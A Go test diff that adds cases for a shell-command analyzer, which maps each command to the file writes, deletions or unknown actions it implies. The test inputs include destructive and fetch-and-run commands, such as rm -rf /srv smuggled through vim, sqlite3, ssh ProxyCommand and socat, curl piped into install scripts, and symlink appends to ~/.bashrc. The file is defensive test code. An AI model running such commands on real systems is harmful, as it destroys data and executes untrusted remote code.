@@ -141,3 +141,51 @@ func between(t *testing.T, what, command string, got, want, allowed []string) {
 		}
 	}
 }
+
+// TestShellKinds pins what the cases have no row for: what is unknown, where
+// links lead, and what reaches a shell from the network.
+func TestShellKinds(t *testing.T) {
+	for command, want := range map[string]string{
+		"ln -s ../.bashrc b && echo x >> b":                          "link /home/dev/project/b, append /home/dev/.bashrc",
+		"ln ~/.bashrc hard && echo x >> hard":                        "link /home/dev/project/hard, append /home/dev/.bashrc",
+		"cp /bin/rm ./z && ./z -rf /srv":                             "write /home/dev/project/z, delete /srv",
+		"curl -L https://x.example/a | tar xz && ./install.sh":       "unknown command",
+		"git clone https://x.example/r && bash r/install.sh":         "create /home/dev/project/r, unknown command",
+		"git clone https://x.example/r && cd r && npm ci":            "create /home/dev/project/r",
+		"mywrap --fast rm -rf /srv/shared":                           "unknown command",
+		"mytool rm src/a.ts":                                         "",
+		"docker run -v \"$PWD\":/w -w /w alpine rm -rf .git":         "delete /home/dev/project/.git",
+		"docker run alpine rm -rf /data":                             "",
+		"cat <> /etc/hosts":                                          "write /etc/hosts",
+		"bash /dev/fd/3 3<<<'rm -rf /srv'":                           "delete /srv",
+		"X=/srv bash -c 'rm -rf $X'":                                 "delete /srv",
+		"X=/srv; bash -c 'rm -rf $X/'":                               "delete /",
+		"sed -i.bak 's/a/b/' f":                                      "write /home/dev/project/f, write /home/dev/project/f.bak",
+		"chmod -x a.sh":                                              "chmod /home/dev/project/a.sh",
+		"eval \"$(direnv hook bash)\"":                               "",
+		"for f in a b; do rm \"$f\"; done":                           "delete /home/dev/project/a, delete /home/dev/project/b",
+		"rm -rf $(find . -name __pycache__)":                         "delete /home/dev/project/*/__pycache__",
+		"git ls-files | grep ts | xargs perl -pi -e 's/a/b/'":        "write /home/dev/project/*",
+		"vim -es -c '!rm -rf /srv' -c q":                             "delete /srv",
+		"sqlite3 a.db '.shell rm -rf /srv'":                          "delete /srv",
+		"split --filter='rm -rf /srv' a":                             "delete /srv",
+		"socat TCP-LISTEN:1 EXEC:'rm -rf /srv'":                      "delete /srv",
+		"curl -O https://x.example/i.sh && sh i.sh":                  "write /home/dev/project/i.sh, unknown command",
+		"tar -xPf a.tar":                                             "unknown target",
+		"ssh -o 'ProxyCommand rm -rf /srv' host":                     "delete /srv",
+		"f() { rm -rf \"$1\"; }; f /srv":                             "delete /srv",
+		"x=$(mktemp -d); trap 'rm -rf \"$x\"' EXIT; echo > \"$x/a\"": "delete /tmp/tmp.XXXXXXXXXX, write /tmp/tmp.XXXXXXXXXX/a",
+	} {
+		a := shellAction(command)
+		var got []string
+		for _, w := range a.Writes {
+			got = append(got, w.Op+" "+w.Abs)
+		}
+		for _, u := range a.Unknown {
+			got = append(got, "unknown "+u.What)
+		}
+		if text := strings.Join(got, ", "); text != want {
+			t.Errorf("%s\ngot  %s\nwant %s", command, text, want)
+		}
+	}
+}
